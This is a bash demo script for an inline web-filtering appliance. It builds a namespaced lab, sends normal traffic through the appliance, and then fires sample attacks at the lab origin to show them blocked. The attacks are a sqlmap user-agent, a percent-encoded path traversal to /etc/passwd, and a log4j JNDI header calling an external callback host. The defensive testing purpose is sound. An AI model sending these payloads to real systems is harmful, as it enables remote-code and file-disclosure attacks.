#!/usr/bin/env bash
# The README's first command: sets the machine up, builds, brings up the lab (client,
# appliance, origin in network namespaces), starts bulwark-dataplane between them and
# shows traffic going through it: curl over IPv4 and IPv6, a login that fails and one
# that works, a short wrk run; with the shipped rule packs loaded it then stops a
# scanner, a path traversal and a log4j probe and shows the events they wrote, then the
# appliance's own counters. Tears the lab down at the end unless --keep is given (then:
# LAB=demo tools/lab/lab.sh down).
set -euo pipefail
ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
cd "$ROOT"
KEEP=0
[[ ${1:-} == --keep ]] && KEEP=1
export LAB=demo
LABSH="$ROOT/tools/lab/lab.sh"

bash tools/setup.sh
ninja -C build >/dev/null
RUN=${LAB_RUN:-/run/bulwark-lab}/demo-files
mkdir -p "$RUN"
build/control/bulwark-rules compile rules/packs/*.yaml -o "$RUN/rules.bwb"
((KEEP)) || trap '"$LABSH" down; rm -rf "$RUN"' EXIT
"$LABSH" up
"$LABSH" start-dataplane --main-core 0 --workers 1 --rules "$RUN/rules.bwb" --events "$RUN/events.jsonl"

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
client() { "$LABSH" client "$@"; }
say "curl http://198.18.0.2/api/v1/customers/42 (IPv4, through the appliance)"
client curl -sS -m 5 http://198.18.0.2/api/v1/customers/42; echo
say "curl http://[2001:2::2]/health (IPv6)"
client curl -sS -m 5 'http://[2001:2::2]/health'; echo
say "POST /login with a wrong password, then the right one"
client curl -sS -m 5 -o /dev/null -w 'status %{http_code}\n' -H 'Content-Type: application/json' \
  -d '{"username":"alice","password":"guess"}' http://198.18.0.2/login
client curl -sS -m 5 -o /dev/null -w 'status %{http_code}\n' -H 'Content-Type: application/json' \
  -d '{"username":"alice","password":"wonderland"}' http://198.18.0.2/login
say "wrk -t1 -c8 -d5s through the appliance"
client wrk -t1 -c8 -d5s http://198.18.0.2/api/v1/customers/1 | sed -n '/requests in/,/Transfer/p'
say "attacks, stopped inline (rule packs in rules/packs/)"
attempt() {  # attempt LABEL CURL-ARGS...: reports the status, or that the connection was cut
  local code
  if code=$(client curl -sS -m 5 -o /dev/null -w '%{http_code}' "${@:2}" 2>/dev/null); then
    echo "$1: HTTP $code"
  else
    echo "$1: connection reset by the appliance (blocked)"
  fi
}
attempt "sqlmap user-agent" -A 'sqlmap/1.7.11#stable' 'http://198.18.0.2/api/v1/customers?id=1'
attempt "percent-encoded path traversal" --path-as-is 'http://198.18.0.2/static/%2e%2e/%2e%2e/etc/passwd'
attempt "log4j lookup in a header" -A 'Mozilla/5.0' -H 'X-Api-Version: ${jndi:ldap://x.oast.fun/a}' http://198.18.0.2/
attempt "the same client, clean request" -A 'Mozilla/5.0' http://198.18.0.2/api/v1/products/3
sleep 0.3
say "events written by the appliance ($RUN/events.jsonl)"
python3 -c 'import collections, json, sys
events = [json.loads(l) for l in open(sys.argv[1])]
print("events by rule:")
for (rid, name, action, enforced), n in collections.Counter(
        (e.get("rule", {}).get("id"), e.get("rule", {}).get("name", e["type"]), e.get("action"), e.get("enforced"))
        for e in events).most_common():
    print(f"  {n:6} x rule {rid} {name!r} {action}", "(enforced)" if enforced else "")
print("enforced decisions:")
for e in events:
    if e.get("enforced"):
        print(" ", json.dumps(e))' "$RUN/events.jsonl"
say "the appliance's counters (bulwark-statsdump --shm /demo-stats)"
build/tools/bulwark-statsdump --shm /demo-stats | python3 tools/lab/stats_summary.py
if ((KEEP)); then
  echo; echo "lab left up: LAB=demo tools/lab/lab.sh client curl http://198.18.0.2/ ; LAB=demo tools/lab/lab.sh down"
fi
